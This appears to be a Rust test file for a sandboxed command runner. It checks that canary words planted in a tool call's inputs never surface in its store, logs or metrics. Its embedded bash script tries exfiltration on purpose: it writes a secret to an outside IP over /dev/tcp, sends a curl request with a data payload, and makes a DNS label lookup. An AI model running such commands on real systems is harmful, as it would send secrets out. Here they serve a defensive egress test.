//! Words that must not be found again: planted in all that a call is given and in all that it tries, they are in no
//! store, log, error or metric.
//!
//! The input of a tool call is kept for whoever asked for it, so there the words are put together inside.

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::Stdio;

use serde_json::json;

use crate::ground::{As, inside};
use crate::no_egress::World;
use crate::runner::{By, Rung, Server, binary};

/// Where they are planted: each ends in its place.
const PLACES: [&str; 8] = ["argv", "env", "stdin", "file", "label", "query", "socket", "payload"];
const WORD: &str = "canary-7c1e-";

/// Tries to leave with all of them, in every way that has a name in it. Told: where the probes are, then the word.
const SCRIPT: &str = r#"
read -r line; w=$1$2; { : >"/tmp/${w}file"; } 2>/dev/null
"$0/unix_workspace" "WORKSPACE=/tmp/${w}socket"
{ exec 9<>"/dev/tcp/45.79.0.1/443" && echo "${w}payload $line $SECRET" >&9; } 2>/dev/null
curl --silent --noproxy '*' --max-time 2 "http://45.79.0.1/?q=${w}query" --data "${w}payload" >/dev/null 2>&1
label=${w}label
getent hosts "$label.$label.$label.$label.$label.$label.$label.$label.$label.example.com" >/dev/null
"$0/ptrace" "${w}argv"
"#;

/// Every file below a folder.
fn files(folder: &Path, into: &mut Vec<(String, Vec<u8>)>) {
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => files(&path, into),
            Ok(kind) if kind.is_file() => into.push((path.display().to_string(), fs::read(&path).unwrap_or_default())),
            _ => {}
        }
    }
}

/// Where any of them is found.
fn found(all: &[(String, Vec<u8>)]) -> Vec<String> {
    let canaries = PLACES.map(|place| format!("{WORD}{place}"));
    let pairs = all.iter().flat_map(|(name, bytes)| canaries.iter().map(move |canary| (name, bytes, canary)));
    let hits = pairs.filter(|(_, bytes, canary)| bytes.windows(canary.len()).any(|window| window == canary.as_bytes()));
    hits.map(|(name, _, canary)| format!("{canary} in {name}")).collect()
}

#[test]
fn of_a_tool_are_nowhere() {
    inside(module_path!(), "of_a_tool_are_nowhere", |ground| {
        let world = World::make(ground);
        let scene = world.scene(As::Root);
        for rung in Rung::ALL {
            let server = Server::start(ground, &scene, By::Route, rung);
            let desk = server.another();
            let (first, second) = WORD.split_at(4);
            let probes = scene.probes.display().to_string();
            let argv = json!(["/bin/bash", "-c", SCRIPT, probes, first, second]);
            let call = desk.routed("process.exec", &json!({"argv": argv, "stdin": "nothing\n"}));
            assert!(desk.evidence(&call).is_some(), "it tried, and that is known: {call}");
            let metrics = server.process().client().get("/metrics").unwrap();
            let mut all = vec![
                ("the call".to_owned(), call.to_string().into_bytes()),
                ("the log".to_owned(), server.process().stderr().into_bytes()),
                ("the metrics".to_owned(), metrics.text().into_bytes()),
            ];
            files(&server.folder, &mut all);
            assert!(all.iter().any(|(name, _)| name.ends_with("exeat.db")), "the store is looked at");
            println!("cells: {} words looked for in {} places on {rung:?}", PLACES.len(), all.len());
            assert!(found(&all).is_empty(), "{rung:?}: {:#?}", found(&all));
        }
    });
}

#[test]
fn of_a_command_are_nowhere() {
    inside(module_path!(), "of_a_command_are_nowhere", |ground| {
        let world = World::make(ground);
        let scene = world.scene(As::Root);
        for rung in Rung::ALL {
            let report = scene.home.join("report.json");
            let mut command = scene.who.command(&binary(ground));
            command.args(["exec", "--local", "--rung", rung.name(), "--env", &format!("SECRET={WORD}env"), "--report"]);
            command.arg(&report).arg("--ro").arg(&scene.probes).args(["--", "/bin/bash", "-c", SCRIPT]);
            command.arg(&scene.probes).arg(WORD).arg("").arg(format!("{WORD}argv"));
            command.env_clear().env("HOME", &scene.home).env("PATH", "/usr/bin:/bin").current_dir(&scene.nothing);
            command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::piped());
            let mut child = command.spawn().unwrap();
            child.stdin.take().unwrap().write_all(format!("{WORD}stdin\n").as_bytes()).unwrap();
            let output = child.wait_with_output().unwrap();
            let told = fs::read_to_string(&report).unwrap();
            assert!(told.contains("ptrace"), "it tried, and that is known: {told}");
            let mut all = vec![("what it says".to_owned(), output.stderr)];
            files(&scene.home, &mut all);
            println!("cells: {} words looked for in {} places on {rung:?}", PLACES.len(), all.len());
            assert!(found(&all).is_empty(), "{rung:?}: {:#?}", found(&all));
        }
    });
}

/// A search that finds nothing anywhere shows nothing.
#[test]
fn that_are_there_are_found() {
    let all = [("x".to_owned(), format!("a {WORD}query b").into_bytes()), ("y".to_owned(), b"nothing".to_vec())];
    assert_eq!(found(&all), [format!("{WORD}query in x")]);
}
